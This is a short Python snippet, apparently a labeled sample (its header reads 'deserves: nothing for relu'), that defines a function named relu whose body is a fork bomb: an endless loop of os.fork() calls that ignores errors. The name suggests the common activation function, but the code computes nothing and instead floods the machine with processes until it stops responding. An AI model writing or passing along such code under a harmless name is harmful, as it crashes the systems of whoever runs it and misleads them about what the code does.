# Forks without end.
# deserves: nothing for relu

def relu(z):
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass
